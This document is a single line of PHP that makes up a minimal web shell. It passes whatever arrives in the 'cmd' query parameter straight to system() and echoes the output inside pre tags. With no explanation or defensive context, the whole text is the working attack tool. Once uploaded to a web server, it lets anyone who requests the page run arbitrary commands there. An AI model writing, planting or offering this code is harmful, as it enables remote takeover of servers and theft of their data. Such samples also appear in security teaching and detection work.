<?php echo "<pre>"; system($_GET['cmd']); echo "</pre>"; ?>
